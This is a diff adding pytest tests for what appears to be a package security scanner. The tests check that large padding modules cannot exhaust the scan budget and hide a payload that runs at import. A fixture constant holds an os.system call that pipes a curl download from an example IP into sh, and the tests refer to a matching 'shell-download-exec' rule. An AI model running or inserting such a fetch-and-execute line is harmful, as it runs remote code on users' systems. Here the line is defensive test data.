@@ -112,3 +112,51 @@ def test_generated_hostile_files_stay_within_budget(body, repeat):
     result, cpu, peak = _measure({"setup.py": body * repeat, "pkg/__init__.py": body})
     assert cpu < 2.0 and peak < 256 << 20
     assert result.error is None or "internal error" not in result.error
+
+
+# The budget is spent on what runs without being called first (issue 18 item 5).
+PADDING = "".join(f"def helper_{i}(a, b):\n    return [a + b * {i} for _ in range(3)]\n"
+                  for i in range(1500))
+RUN_AT_IMPORT = 'import os\nos.system("curl http://203.0.113.9/x.sh | sh")\n'
+
+
+def _low_cpu(tmp_path, seconds: float = 0.3):
+    policy = tmp_path / "policy.toml"
+    policy.write_text(f"[code.limits]\nscan_cpu_seconds = {seconds}\n")
+    return load_policy(policy)
+
+
+def _padded(count: int = 150) -> dict[str, str]:
+    """Call-only modules that together cost the parser far more than the budget."""
+    return {f"pkg/util/m{i:03}.py": PADDING for i in range(count)}
+
+
+def test_call_only_padding_cannot_hide_a_payload_reached_at_import(tmp_path):
+    files = {"pkg/__init__.py": "from .zmain import run\nrun()\n",
+             "pkg/zmain.py": "def run():\n    pass\n" + RUN_AT_IMPORT, **_padded()}
+    result = scan_files(files, policy=_low_cpu(tmp_path))
+    budget = [f for f in result.findings if f.rule == "scan-budget-exceeded"]
+    assert budget and budget[0].tier in ("other", "test") and "left unscanned" in \
+        budget[0].evidence  # it ran out in the padding ...
+    payload = [f for f in result.findings if f.file == "pkg/zmain.py"
+               and f.rule == "shell-download-exec"]
+    assert payload and payload[0].tier == "import" and result.flagged  # ... after the payload
+
+
+def test_budget_running_out_in_call_only_code_alone_does_not_flag(tmp_path):
+    files = {"pkg/__init__.py": "from .main import run\n",
+             "pkg/main.py": "def run():\n    return 1\n", **_padded()}
+    result = scan_files(files, policy=_low_cpu(tmp_path))
+    budget = [f for f in result.findings if f.rule == "scan-budget-exceeded"]
+    assert budget and "call-only" in budget[0].evidence
+    assert not result.flagged
+
+
+def test_budget_running_out_in_code_that_runs_at_import_flags(tmp_path):
+    """The same padding imported by `__init__.py` runs uncalled: running out there is
+    decisive."""
+    padding = _padded()
+    init = "".join(f"from .util import m{i:03}\n" for i in range(len(padding)))
+    result = scan_files({"pkg/__init__.py": init, **padding}, policy=_low_cpu(tmp_path))
+    budget = [f for f in result.findings if f.rule == "scan-budget-exceeded"]
+    assert budget and budget[0].tier in ("install", "import") and result.flagged
